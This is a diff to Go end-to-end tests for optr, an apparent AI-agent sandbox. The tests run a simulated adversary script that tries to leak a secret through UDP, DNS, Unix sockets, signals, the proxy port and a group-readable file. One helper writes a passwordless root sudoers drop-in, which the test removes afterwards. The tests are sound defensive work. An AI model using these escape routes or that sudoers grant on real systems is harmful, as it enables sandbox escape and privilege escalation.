@@ -22,7 +22,8 @@ import (
 
 // The routes of issue 34 the adversary adds in the field: UDP, DNS, an
 // ICMP ping socket, MPTCP, an abstract socket, a socket standing in for
-// docker.sock (its group is optr's user's), a signal to a process of
+// docker.sock (its group is optr's user's), a file only that group may
+// read, a signal to a process of
 // optr's user standing in for the runner's worker, TCP to the proxy's
 // port on another address (the agent reads the port from HTTPS_PROXY; the
 // test then listens there), and, last, a signal to optr itself. The tool
@@ -37,6 +38,7 @@ $T mptcp $SERVICE $SECRET && leak mptcp
 $T unix @$ABSTRACT $SECRET && leak abstract
 $T unix $DOCKERSOCK $SECRET && leak docker-sock
 $T kill $VICTIM 9 && leak signal-runner
+cat "$GROUPFILE" 2>/dev/null | grep -q "$SECRET" && leak group-file
 if [ -n "$OPTR_AGENT" ]; then
   read -r _ < "$MARK/elsewhere.fifo"
   $T tcp $ELSEWHERE:${HTTPS_PROXY##*:} $SECRET && leak proxy-port-elsewhere
@@ -70,6 +72,13 @@ type field struct {
 	off    string
 	leaks  []string
 	strict string
+	// refuses is the layer strict mode refuses even with every
+	// protection in place ("groups": a non-root optr without sudo).
+	refuses string
+	// sudo lets optr's user run anything as root through sudo without a
+	// password (withSudo), as on the hosted runner: its launchers then
+	// start agents as its user without its supplementary groups.
+	sudo bool
 }
 
 const abi4 = "-X github.com/optr-dev/optr/internal/sandbox/launcher/child.maxABI=4"
@@ -94,8 +103,9 @@ var fields = []field{{
 	// (c) A non-root optr in the group that owns the socket, user
 	// namespaces granted: the namespace holds the network (the launcher
 	// maps its own ids), but not Unix sockets by path.
+	// No sudo: agents keep the group, which strict refuses.
 	name: "nonroot-userns", env: fieldtest.Env{UID: fieldUID, GID: fieldGID, Groups: []int{socketGroup}},
-	net: "netns", off: "seccomp", leaks: []string{"docker-sock"}, strict: "scope",
+	net: "netns", off: "seccomp", leaks: []string{"docker-sock"}, strict: "scope", refuses: "groups",
 }, {
 	// (d) The hosted runner: non-root, in the socket's group, user
 	// namespaces refused, Landlock capped at ABI 4 (kernel 6.8). Without
@@ -103,8 +113,20 @@ var fields = []field{{
 	name: "runner-abi4", env: fieldtest.Env{UID: fieldUID, GID: fieldGID, Groups: []int{socketGroup}, NoUserNS: true},
 	ldflags: abi4, net: "seccomp", off: "seccomp",
 	leaks:  []string{"udp", "dns", "mptcp", "abstract", "docker-sock", "signal-runner", "proxy-port-elsewhere", "signal-optr"},
-	strict: "net",
+	strict: "net", refuses: "groups",
+}, {
+	// (c) and (d) with sudo, as the hosted runner has it: the launcher
+	// runs as root (sudo), so it has a network namespace of its own
+	// without a user namespace, and starts the agent as optr's user
+	// without the group (TestGroupsDroppedThroughSudo takes it away).
+	name: "runner-sudo", env: fieldtest.Env{UID: fieldSudoUID, GID: fieldSudoUID, Groups: []int{socketGroup}, NoUserNS: true},
+	ldflags: abi4, net: "netns", off: "seccomp", sudo: true,
+	leaks: []string{"signal-runner", "signal-optr"}, strict: "scope",
 }}
+
+// fieldSudoUID is the user of the field with sudo: one of this test
+// process's own, since the sudo rights it gets are the machine's.
+var fieldSudoUID = 20000 + os.Getpid()%10000
 
 // TestAdversaryInTheField (issue 34): the adversary tries every route in
 // each environment, through the binary. With every protection nothing
@@ -117,15 +139,34 @@ func TestAdversaryInTheField(t *testing.T) {
 	}
 	for _, f := range fields {
 		t.Run(f.name, func(t *testing.T) {
+			if f.sudo {
+				withSudo(t, f.env.UID)
+			}
 			bin, err := launcherBuild(f.ldflags)
 			if err != nil {
 				t.Fatalf("build the field's launcher: %v", err)
 			}
 			t.Run("protected", func(t *testing.T) {
-				h := newFieldHostile(t, f, "strict")
+				mode := "strict"
+				if f.refuses != "" {
+					h := newFieldHostile(t, f, "strict", false)
+					run := h.run(t, bin)
+					if run.code != 2 || !strings.Contains(run.log, "sandbox.mode is strict, but on this machine ") || !strings.Contains(run.log, f.refuses+": ") {
+						t.Errorf("strict ran (exit %d), want exit 2 naming %s:\n%s", run.code, f.refuses, run.log)
+					}
+					mode = "auto"
+				}
+				h := newFieldHostile(t, f, mode, false)
 				run := h.run(t, bin)
-				if run.code == 2 || !strings.Contains(run.log, "sandbox (strict):") {
-					t.Fatalf("strict refused to run (exit %d) where every layer holds:\n%s", run.code, run.log)
+				if run.code == 2 || !strings.Contains(run.log, "sandbox ("+mode+"):") {
+					t.Fatalf("%s refused to run (exit %d) where every layer holds:\n%s", mode, run.code, run.log)
+				}
+				groups := "kept"
+				if f.env.UID == 0 || f.sudo {
+					groups = "dropped"
+				}
+				if !strings.Contains(run.log, ", groups "+groups) {
+					t.Errorf("the log does not say groups %s:\n%s", groups, run.log)
 				}
 				if !strings.Contains(run.log, "net "+f.net+",") {
 					t.Errorf("the log does not say net %s:\n%s", f.net, run.log)
@@ -152,7 +193,7 @@ func TestAdversaryInTheField(t *testing.T) {
 				} else if b, err = launcherBuild(strings.TrimSpace(f.ldflags + " " + seccompOff)); err != nil {
 					t.Fatalf("build the launcher without its seccomp layer: %v", err)
 				}
-				h := newFieldHostile(t, f, mode)
+				h := newFieldHostile(t, f, mode, false)
 				run := h.run(t, b)
 				leaks := h.fieldLeaks(t, run)
 				for _, want := range f.leaks {
@@ -163,7 +204,7 @@ func TestAdversaryInTheField(t *testing.T) {
 				if f.strict == "" {
 					return
 				}
-				h = newFieldHostile(t, f, "strict")
+				h = newFieldHostile(t, f, "strict", false)
 				run = h.run(t, b)
 				if run.code != 2 || !strings.Contains(run.log, "sandbox.mode is strict, but on this machine "+f.strict+": ") {
 					t.Errorf("strict ran without the seccomp layer (exit %d), want exit 2 naming %s:\n%s", run.code, f.strict, run.log)
@@ -171,6 +212,103 @@ func TestAdversaryInTheField(t *testing.T) {
 			})
 		})
 	}
+}
+
+// TestGroupsDroppedThroughSudo (issue 34 item 2): with sudo, optr's
+// agents run without its user's supplementary groups, and that alone
+// keeps them from what only those groups may open: a file (its directory
+// in sandbox.read, so Landlock lets it be read) and a Unix socket (the
+// launcher built without its seccomp layer). Without sudo — its drop-in
+// removed — the same agent reads the file and connects, and strict
+// refuses, naming the groups.
+func TestGroupsDroppedThroughSudo(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("the fields are reproduced as root (fieldtest)")
+	}
+	i := slices.IndexFunc(fields, func(f field) bool { return f.sudo })
+	f := fields[i]
+	b, err := launcherBuild(strings.TrimSpace(f.ldflags + " " + seccompOff))
+	if err != nil {
+		t.Fatalf("build the launcher without its seccomp layer: %v", err)
+	}
+	revoke := withSudo(t, f.env.UID)
+	h := newFieldHostile(t, f, "auto", true)
+	h.spareOptr(t)
+	run := h.run(t, b)
+	if !strings.Contains(run.log, ", groups dropped") {
+		t.Errorf("the log does not say groups dropped:\n%s", run.log)
+	}
+	leaks := h.fieldLeaks(t, run)
+	for _, route := range []string{"group-file", "docker-sock"} {
+		if slices.Contains(leaks, route) {
+			t.Errorf("with the groups dropped %s got through: %v\n%s", route, leaks, run.log)
+		}
+	}
+
+	revoke()
+	h = newFieldHostile(t, f, "auto", true)
+	h.spareOptr(t)
+	run = h.run(t, b)
+	if !strings.Contains(run.log, ", groups kept") || !strings.Contains(run.log, "sudo -n could not start the sandbox launcher as root") {
+		t.Errorf("without sudo the log does not say groups kept, and why:\n%s", run.log)
+	}
+	leaks = h.fieldLeaks(t, run)
+	for _, route := range []string{"group-file", "docker-sock"} {
+		if !slices.Contains(leaks, route) {
+			t.Errorf("without sudo %s should get through; got %v: the test proves nothing\n%s", route, leaks, run.log)
+		}
+	}
+	h = newFieldHostile(t, f, "strict", true)
+	run = h.run(t, b)
+	if run.code != 2 || !strings.Contains(run.log, "groups: agents keep optr's supplementary groups ("+strconv.Itoa(socketGroup)+")") {
+		t.Errorf("strict ran without sudo (exit %d), want exit 2 naming the groups:\n%s", run.code, run.log)
+	}
+}
+
+// withSudo lets uid run anything as root through sudo without a
+// password, as the hosted runner's user may: a user of that uid in
+// /etc/passwd (sudo refuses a uid without one) and a drop-in in
+// /etc/sudoers.d, both removed when the test ends, also when it fails.
+// revoke removes the drop-in before: sudo then asks for a password, which
+// sudo -n refuses. It skips where sudo is not installed (Debian's sudo
+// package; .ci/run installs it).
+func withSudo(t *testing.T, uid int) (revoke func()) {
+	t.Helper()
+	for _, tool := range []string{"sudo", "useradd", "userdel"} {
+		if _, err := exec.LookPath(tool); err != nil {
+			t.Skipf("%s is not installed (Debian: apt-get install sudo passwd): the field with sudo is not reproduced", tool)
+		}
+	}
+	name := "optr-e2e-" + strconv.Itoa(uid)
+	dropIn := filepath.Join("/etc/sudoers.d", name)
+	_ = exec.Command("userdel", "--force", name).Run() // a run killed before its cleanup
+	add := exec.Command("useradd", "--no-create-home", "--no-user-group", "--gid", "65534", "--home-dir", "/nonexistent",
+		"--shell", "/usr/sbin/nologin", "--uid", strconv.Itoa(uid), name)
+	if out, err := add.CombinedOutput(); err != nil {
+		t.Fatalf("useradd: %v\n%s", err, out)
+	}
+	revoke = func() {
+		if err := os.Remove(dropIn); err != nil && !errors.Is(err, os.ErrNotExist) {
+			t.Errorf("remove %s: %v", dropIn, err)
+		}
+	}
+	t.Cleanup(func() {
+		revoke()
+		if out, err := exec.Command("userdel", "--force", name).CombinedOutput(); err != nil {
+			t.Errorf("userdel %s: %v\n%s", name, err, out)
+		}
+	})
+	// Written beside it first: sudo skips a name with a dot, and reads
+	// the drop-in only once it is whole.
+	tmp := filepath.Join("/etc/sudoers.d", "."+name)
+	if err := os.WriteFile(tmp, []byte("#"+strconv.Itoa(uid)+" ALL=(ALL) NOPASSWD: ALL\n"), 0o440); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Rename(tmp, dropIn); err != nil {
+		os.Remove(tmp)
+		t.Fatal(err)
+	}
+	return revoke
 }
 
 // launcherBuilds are optr's executable beside a launcher built with
@@ -220,6 +358,10 @@ var elsewhereIP = func() string {
 	return fmt.Sprintf("127.2.%d.%d", (pid>>8)&0xff, 1+(pid&0xff)%254)
 }()
 
+// fieldHostiles counts the fieldHostiles made: each listens on an
+// abstract socket of its own.
+var fieldHostiles atomic.Int64
+
 // fieldHostile is hostile with the field's routes and listeners.
 type fieldHostile struct {
 	*hostile
@@ -235,8 +377,10 @@ type fieldHostile struct {
 }
 
 // newFieldHostile is the adversary's workspace, tools, listeners and
-// victim for f, in sandbox mode.
-func newFieldHostile(t *testing.T, f field, mode string) *fieldHostile {
+// victim for f, in sandbox mode. The file only the socket's group may
+// read lies outside what the agent may read, unless groupRead puts its
+// directory in sandbox.read: then only its group keeps it.
+func newFieldHostile(t *testing.T, f field, mode string, groupRead bool) *fieldHostile {
 	t.Helper()
 	dir := t.TempDir()
 	// optr's user and the agents' reach their directories.
@@ -248,9 +392,28 @@ func newFieldHostile(t *testing.T, f field, mode string) *fieldHostile {
 		t.Fatal(err)
 	}
 	h := &fieldHostile{hostile: newHostile(t, dir, ws, mode), f: f, dir: dir, secret: "fieldsecret" + strconv.Itoa(os.Getpid())}
+	groupDir := filepath.Join(dir, "group")
+	groupFile := filepath.Join(groupDir, "secret")
+	if err := os.Mkdir(groupDir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(groupFile, []byte(h.secret+"\n"), 0o640); err != nil {
+		t.Fatal(err)
+	}
+	if groupRead {
+		cfgPath := filepath.Join(ws, ".github", "optr.yml")
+		cfg, err := os.ReadFile(cfgPath)
+		if err != nil {
+			t.Fatal(err)
+		}
+		cfg = bytes.Replace(cfg, []byte("sandbox: { read: ["), []byte("sandbox: { read: ["+groupDir+", "), 1)
+		if err := os.WriteFile(cfgPath, cfg, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
 	h.udp = fieldtest.ListenPackets(t, h.secret)
 	h.dns = fieldtest.ListenPackets(t, h.secret)
-	abstract := "optr-e2e-" + strconv.Itoa(os.Getpid()) + "-" + f.name + "-" + mode
+	abstract := "optr-e2e-" + strconv.Itoa(os.Getpid()) + "-" + f.name + "-" + mode + "-" + strconv.FormatInt(fieldHostiles.Add(1), 10)
 	h.abstract = fieldtest.ListenConns(t, "unix", "@"+abstract)
 	sockDir := filepath.Join(dir, "run")
 	if err := os.Mkdir(sockDir, 0o755); err != nil {
@@ -298,7 +461,8 @@ func newFieldHostile(t *testing.T, f field, mode string) *fieldHostile {
 	known := strings.NewReplacer("$ENVTOKEN_HEAD", envToken[:12], "$RUNTIME_HEAD", runtimeToken[:12],
 		"$OUTSIDE", h.outside, "$WS", ws, "$SERVICE", h.service, "$MARK", h.mark, "$TOOL", tool,
 		"$UDP", h.udp.Addr, "$DNS", h.dns.Addr, "$ABSTRACT", abstract, "$DOCKERSOCK", h.sock.Addr,
-		"$VICTIM", strconv.Itoa(h.victim.Process.Pid), "$SECRET", h.secret, "$ELSEWHERE", elsewhereIP)
+		"$VICTIM", strconv.Itoa(h.victim.Process.Pid), "$SECRET", h.secret, "$ELSEWHERE", elsewhereIP,
+		"$GROUPFILE", groupFile)
 	if err := os.WriteFile(filepath.Join(tools, "adversary.sh"), []byte(known.Replace(script)), 0o644); err != nil {
 		t.Fatal(err)
 	}
@@ -325,7 +489,31 @@ func newFieldHostile(t *testing.T, f field, mode string) *fieldHostile {
 	if err := os.Chmod(h.sock.Addr, 0o660); err != nil {
 		t.Fatal(err)
 	}
+	if err := os.Chown(groupFile, 0, group); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chmod(groupFile, 0o640); err != nil {
+		t.Fatal(err)
+	}
 	return h
+}
+
+// spareOptr takes the adversary's last attempt, the signal to optr, out
+// of its script: without the seccomp layer it lands, and optr, killed,
+// records none of the routes the adversary reports.
+func (h *fieldHostile) spareOptr(t *testing.T) {
+	t.Helper()
+	p := filepath.Join(h.dir, "tools", "adversary.sh")
+	b, err := os.ReadFile(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !bytes.Contains(b, []byte(fieldLast)) {
+		t.Fatalf("the adversary's script lacks its last attempt:\n%s", b)
+	}
+	if err := os.WriteFile(p, bytes.Replace(b, []byte(fieldLast), nil, 1), 0o644); err != nil {
+		t.Fatal(err)
+	}
 }
 
 // fieldRun is one optr run in a field.
